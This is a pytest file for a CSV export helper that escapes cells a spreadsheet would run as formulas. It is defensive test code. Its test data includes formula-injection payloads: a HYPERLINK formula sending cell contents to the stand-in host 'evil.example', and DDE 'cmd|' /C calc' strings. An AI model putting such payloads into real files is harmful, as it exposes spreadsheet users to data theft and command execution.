"""Every CSV the app writes goes through one guard against spreadsheet formulas.

A text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
gets a leading apostrophe, so Excel, LibreOffice and Sheets show it as text instead
of running it. Numbers are written as numbers: a negative amount is data.
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from pathlib import Path

import pytest

from accounts.csv_export import csv_cell, csv_document

ROOT = Path(__file__).resolve().parent.parent.parent
APPS = ("accounts", "encounters", "coding", "payers", "audits", "claims")
HELPER = ROOT / "accounts" / "csv_export.py"


@pytest.mark.parametrize(
    "text",
    [
        '=1+HYPERLINK("http://evil.example/?"&A1,"Click")',
        "=cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "+1+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "-12.50",  # text that looks like a number is still text: escaped
        "=",
    ],
)
def test_a_text_cell_a_spreadsheet_would_run_is_escaped(text):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize(
    "text", ["", "plain comment", "99214 + 90833", "2026-03", "'quoted", " =not first"]
)
def test_other_text_is_written_as_it_is(text):
    assert csv_cell(text) == text


@pytest.mark.parametrize(
    "number", [0, 101, -3, Decimal("-12.50"), Decimal("12.50"), -0.5, 1.25, True]
)
def test_numbers_stay_numbers(number):
    assert csv_cell(number) is number


def test_the_document_guards_every_cell_and_keeps_numbers_readable_as_numbers():
    text = csv_document(
        ["name", "amount"],
        [['=1+HYPERLINK("x")', Decimal("-12.50")], ["-2+3+cmd|' /C calc'!A0", -7], [None, 0]],
    )
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [
        ["name", "amount"],
        ['\'=1+HYPERLINK("x")', "-12.50"],
        ["'-2+3+cmd|' /C calc'!A0", "-7"],
        ["", "0"],
    ]


def test_no_module_writes_csv_except_the_helper():
    """Every CSV export goes through accounts.csv_export, so none can skip the guard."""
    offenders = [
        str(path.relative_to(ROOT))
        for app in APPS
        for path in (ROOT / app).rglob("*.py")
        if path != HELPER
        and ("csv.writer(" in path.read_text() or "DictWriter(" in path.read_text())
    ]
    assert not offenders, f"write CSV with accounts.csv_export.csv_document: {offenders}"
